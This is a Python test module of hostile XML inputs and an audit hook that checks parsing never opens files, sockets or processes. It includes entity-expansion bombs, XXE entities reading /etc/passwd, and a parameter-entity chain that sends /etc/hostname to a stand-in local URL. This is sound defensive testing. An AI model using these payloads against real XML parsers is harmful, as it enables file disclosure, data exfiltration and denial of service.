"""Hostile XML (T18), and the proof that reading it reaches for nothing outside."""

import codecs
import sys
from collections.abc import Iterator, Mapping
from contextlib import contextmanager

ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7")
OUTSIDE = "http://127.0.0.1:1/"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_QUOTED = b"n'" * 8000


def _utf16(text: str, order: str = "le", mark: bool = True) -> bytes:
    return (("\ufeff" if mark else "") + text).encode(f"utf-16-{order}")


_ENTITY = '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
REFUSED: Mapping[str, bytes] = {
    "billion laughs": f'<!DOCTYPE a [<!ENTITY l0 "ha">{_LAUGHS}]><a>&l11;</a>'.encode(),
    "laughs in an attribute": f'<!DOCTYPE a [<!ENTITY l0 "ha">{_LAUGHS}]><a b="&l11;"/>'.encode(),
    "quadratic": b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 15000 + b'">]><a>' + b"&b;" * 4000 + b"</a>",
    "entity of itself": b'<!DOCTYPE a [<!ENTITY b "&b;">]><a>&b;</a>',
    "internal entity": _ENTITY.encode(),
    "external file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "external http": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{OUTSIDE}">]><a>&x;</a>'.encode(),
    "external public": f'<!DOCTYPE a [<!ENTITY x PUBLIC "p" "{OUTSIDE}">]><a>&x;</a>'.encode(),
    "unparsed entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{OUTSIDE}" NDATA n>]><a/>'.encode(),
    "notation": f'<!DOCTYPE a [<!NOTATION n SYSTEM "{OUTSIDE}">]><a/>'.encode(),
    "parameter entity": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{OUTSIDE}"> %p;]><a/>'.encode(),
    "nested parameter entity": f"""<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname">
        <!ENTITY % e "<!ENTITY &#x25; s SYSTEM '{OUTSIDE}?%f;'>"> %e; %s;]><a/>""".encode(),
    "external subset": f'<!DOCTYPE a SYSTEM "{OUTSIDE}x.dtd"><a/>'.encode(),
    "public subset": f'<!DOCTYPE a PUBLIC "-//X//Y" "{OUTSIDE}x.dtd"><a/>'.encode(),
    "default attribute": b'<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>',
    "bare doctype": b"<!DOCTYPE a><a/>",
    "doctype after a comment": b"<!-- c --><!DOCTYPE a><a/>",
    "doctype in UTF-16LE": _utf16(_ENTITY),
    "doctype in UTF-16BE": _utf16(_ENTITY, "be"),
    "doctype in UTF-16LE without a mark": _utf16(_ENTITY, mark=False),
    "doctype in UTF-16BE without a mark": _utf16(_ENTITY, "be", mark=False),
    "doctype in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4APA-a/+AD4-',
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-',
    "UTF-7 without saying so": b"+ADw-a/+AD4-",
    "UTF-7 said in UTF-16": _utf16('<?xml version="1.0" encoding="UTF-7"?><a/>'),
    "UTF-32 with a mark": "<a/>".encode("utf-32"),
    "UTF-32LE": "<a/>".encode("utf-32-le"),
    "UTF-32BE": "<a/>".encode("utf-32-be"),
    "UTF-16 once more within UTF-16": "<a/>".encode("utf-16-le").decode("latin-1").encode("utf-16-le"),
    "UTF-16 once more with a doctype": _utf16(_ENTITY, mark=False).decode("latin-1").encode("utf-16-be"),
    "UTF-32BE with a mark": "\ufeff<a/>".encode("utf-32-be"),
    "UTF-32 declared": b'<?xml version="1.0" encoding="UTF-32"?><a/>',
    "Latin-1": b'<?xml version="1.0" encoding="iso-8859-1"?><a>\xe9</a>',
    "EBCDIC": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"),
    "EBCDIC declared": b'<?xml version="1.0" encoding="cp037"?><a/>',
    "unknown encoding": b'<?xml version="1.0" encoding="x-none"?><a/>',
    "empty encoding": b'<?xml version="1.0" encoding=""?><a/>',
    "encoding in other quotes": b"<?xml version='1.0' encoding = 'utf-7' ?><a/>",
    "half a UTF-16 character": b"\xff\xfe<\0a\0/\0>",
    "UTF-16 surrogate alone": _utf16("<a>") + b"\x00\xd8" + _utf16("</a>", mark=False),
    "UTF-16 within UTF-8": b"<a>" + "é<".encode("utf-16-le") + b"</a>",
    "overlong UTF-8": b"<a>\xc0\xaf</a>",
    "overlong angle bracket": b"<a>\xe0\x80\xbcb/></a>",
    "surrogate": b"<a>\xed\xa0\x80</a>",
    "beyond Unicode": b"<a>\xf4\x90\x80\x80</a>",
    "NUL": b"<a>\0</a>",
    "NUL first": b"\0<a/>",
    "NUL in a name": b"<a\0b/>",
    "NUL after the end": b"<a/>\0",
    "NUL by number": b"<a>&#0;</a>",
    "control character by number": b"<a>&#8;</a>",
    "surrogate by number": b"<a>&#xD800;</a>",
    "number beyond Unicode": b"<a>&#" + b"9" * 5000 + b";</a>",
    "undeclared entity": b"<a>&nope;</a>",
    "HTML entity": b"<a>&nbsp;</a>",
    "processing instruction": b"<?php x?><a/>",
    "style sheet": f'<?xml-stylesheet href="{OUTSIDE}"?><a/>'.encode(),
    "late processing instruction": b"<a><?x y?></a>",
    "processing instruction after the end": b"<a/><?x y?>",
    "second declaration": b'<?xml version="1.0"?><?xml version="1.0"?><a/>',
    "late declaration": b'<a><?xml version="1.0"?></a>',
    "long namespace": b'<a xmlns="' + b"n" * 16000 + b'">' + b"<b/>" * 3000 + b"</a>",
    "long namespace with quotes in it": b'<a xmlns="' + _QUOTED + b'">' + b"<b/>" * 3000 + b"</a>",
    "long namespace on attributes": b'<a xmlns:p="' + b"n" * 16000 + b'" '
    + b" ".join(b'p:b%d=""' % n for n in range(1400)) + b"/>",
    "long namespace with quotes on attributes": b'<a xmlns:p="' + _QUOTED + b'" '
    + b" ".join(b'p:b%d=""' % n for n in range(1400)) + b"/>",
    "long namespace by a long prefix": b"<a xmlns:" + b"p" * 80 + b'="' + b"n" * 16000 + b'" '
    + b" ".join(b'%s:b%d=""' % (b"p" * 80, n) for n in range(150)) + b"/>",
    "many namespaces": b"<a " + b" ".join(b'xmlns:p%d="u%d"' % (n, n) for n in range(1500))
    + b">" + b"<b/>" * 1000 + b"</a>",
    "namespaces one within another": b"".join(b'<a xmlns:p%d="u">' % n for n in range(900)),
    "undeclared prefix": b"<p:a/>",
    "prefix of nothing": b'<a xmlns:p=""/>',
    "another namespace for xml": b'<a xmlns:xml="urn:x"/>',
    "many attributes": b"<a " + b" ".join(b'b%d=""' % n for n in range(3000)) + b"/>",
    "attributes on many elements": b"<a>" + b'<b c="" d="" e=""/>' * 1500 + b"</a>",
    "duplicate attribute": b'<a b="1" b="2"/>',
    "duplicate attribute by namespace": b'<a xmlns:p="u" xmlns:q="u" p:b="1" q:b="2"/>',
    "deep": b"<a>" * 10000,
    "deep and closed": b"<a>" * 4000 + b"</a>" * 4000,
    "many": b"<a>" + b"<b/>" * 7000 + b"</a>",
    "long name": b"<" + b"a" * 20000 + b"/>",
    "end of CDATA in text": b"<a>]]></a>",
    "CDATA without an end": b"<a><![CDATA[x</a>",
    "CDATA without a root": b"<![CDATA[<a/>]]>",
    "comment without an end": b"<a><!-- x</a>",
    "two hyphens in a comment": b"<a><!-- x -- y --></a>",
    "two roots": b"<a/><b/>",
    "text after": b"<a/>text",
    "unfinished": b"<a><b>",
    "crossed": b"<a><b></a></b>",
    "attribute without quotes": b"<a b=c/>",
    "angle bracket in an attribute": b'<a b="<"/>',
    "only a comment": b"<!-- x -->",
    "nothing": b"",
    "not XML": b"Email=a@example.org",
    "10 MB": b"<a>" + b"x" * 10_000_000 + b"</a>",
}  # fmt: skip
"""Documents that are refused, none of them with a look at anything else."""

HARMLESS: Mapping[str, tuple[bytes, str]] = {
    "XInclude": (
        f'<a xmlns:i="http://www.w3.org/2001/XInclude">v<i:include href="{OUTSIDE}"/></a>'.encode(),
        "v",
    ),
    "XInclude of a file": (
        b'<a xmlns:i="http://www.w3.org/2001/XInclude">v<i:include href="/etc/hostname" parse="text"/></a>',
        "v",
    ),
    "schema location": (
        b'<a xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="u http://x">v</a>',
        "v",
    ),
    "base": (f'<a xml:base="{OUTSIDE}">v</a>'.encode(), "v"),
    "CDATA": (b"<a><![CDATA[v<b>&x;]]></a>", "v<b>&x;"),
    "CDATA twice": (b"<a><![CDATA[v]]><![CDATA[w]]></a>", "vw"),
    "doctype in CDATA": (b"<a><![CDATA[<!DOCTYPE a>]]></a>", "<!DOCTYPE a>"),
    "doctype in a comment": (b"<a><!-- <!DOCTYPE a> -->v</a>", "v"),
    "comment in text": (b"<a>ann@acme<!-- x -->.example</a>", "ann@acme.example"),
    "UTF-16 said in UTF-8": (b'<?xml version="1.0" encoding="UTF-16"?><a>v</a>', "v"),
    "UTF-8 said in UTF-16": (_utf16('<?xml version="1.0" encoding="UTF-8"?><a>v</a>'), "v"),
    "UTF-16LE said in UTF-16BE": (_utf16('<?xml version="1.0" encoding="UTF-16LE"?><a>v</a>', "be"), "v"),
    "UTF-16LE without a mark": (_utf16("<a>v</a>", mark=False), "v"),
    "UTF-16BE without a mark": (_utf16("<a>v</a>", "be", mark=False), "v"),
    "version 1.1": (b'<?xml version="1.1"?><a>v</a>', "v"),
    "numbers": (b"<a>&#118;&#x77;</a>", "vw"),
    "many numbers": (b"<a>" + b"&#118;" * 5000 + b"</a>", "v" * 5000),
    "many comments": (b"<a>v" + b"<!---->" * 4000 + b"</a>", "v"),
    "long text": (b"<a>" + b"v" * 32000 + b"</a>", "v" * 32000),
    "long attribute": (b'<a b="' + b"x" * 32000 + b'">v</a>', "v"),
    "declarations that look like many": (b"<a>v" + b"xmlns:p=" * 4000 + b"</a>", "v" + "xmlns:p=" * 4000),
}
"""Documents that look dangerous, and what their root says: nothing in them is followed."""

WATCHED = frozenset(
    {
        "open",
        "os.listdir",
        "os.system",
        "socket.bind",
        "socket.connect",
        "socket.getaddrinfo",
        "urllib.Request",
    }
    | {"socket.gethostbyname", "socket.sendto", "subprocess.Popen", "ctypes.dlopen"}
)
_CALLS = frozenset({"socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "subprocess.Popen"})
_guarding = False
_installed = False
_calls: list[tuple[object, ...]] | None = None


class ReachedOutside(Exception):
    """What was read made somebody look at the network or at a file."""


@contextmanager
def nothing_outside() -> Iterator[None]:
    """Within this block whoever opens a file or a connection, resolves a name or starts anything fails."""
    global _guarding  # noqa: PLW0603 - an audit hook stays for the life of the process
    _install()
    _guarding = True
    try:
        yield
    finally:
        _guarding = False


@contextmanager
def calls_outside() -> Iterator[list[tuple[object, ...]]]:
    """The connections, look-ups of names and processes that anybody in this process began in this block."""
    global _calls  # noqa: PLW0603 - as above
    _install()
    _calls = []
    try:
        yield _calls
    finally:
        _calls = None


def _install() -> None:
    global _installed  # noqa: PLW0603 - as above
    if not _installed:
        for encoding in ENCODINGS:
            codecs.lookup(encoding)  # Python reads its own codecs from files, once
        sys.addaudithook(_hook)
        _installed = True


def _hook(event: str, arguments: tuple[object, ...]) -> None:
    if _calls is not None and event in _CALLS:
        _calls.append((event, *(arguments[-1:] if event == "socket.connect" else arguments)))
    if _guarding and event in WATCHED:
        raise ReachedOutside(event, arguments)
